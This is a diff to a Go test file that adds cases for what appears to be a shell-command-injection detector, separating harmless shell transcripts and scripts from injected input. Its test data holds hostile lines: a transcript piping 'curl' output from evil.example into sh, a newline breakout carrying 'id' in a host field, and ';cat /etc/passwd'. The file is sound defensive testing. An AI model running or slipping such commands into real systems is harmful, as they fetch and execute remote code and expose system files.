@@ -334,3 +334,22 @@ func FuzzShellShapes(f *testing.F) {
 		}
 	})
 }
+
+func TestShellDocuments(t *testing.T) {
+	runLevelCases(t, []levelCase{
+		{"transcript with output", body("doc", "$ ls -l /proc/$$/ns | awk '{print $1}'\ntotal 0\nlrwxrwxrwx. cgroup -> cgroup:[4026531835]"), "", ""},
+		{"commented script", body("doc", "# save the seed\necho saving\nbits=$(cat $poolfile) || bits=4096"), "", ""},
+		{"script from a command", body("doc", "mknod -m 660 /dev/port c 1 4\nchown root:kmem /dev/port"), "", ""},
+		{"transcript piped to a shell", body("doc", "$ echo hi\nhi\n$ curl -s https://evil.example/x | sh"), "cmdi-separator", "cmdi-separator"},
+		{"breakout before lines", q("host", "127.0.0.1\nid"), "*", "*"},
+		{"words then a separator", q("q", "foo bar\n;cat /etc/passwd"), "*", "*"},
+	})
+	for _, c := range []struct {
+		s    string
+		want bool
+	}{{"# a\nb", true}, {"sh1# cat x\n1 2", true}, {"ls -la /tmp\nx", true}, {"ls -la /tmp", false}, {"hello world\n;id", false}, {"1;\nid", false}} {
+		if got := shellDocument(c.s); got != c.want {
+			t.Errorf("shellDocument(%q) = %v", c.s, got)
+		}
+	}
+}
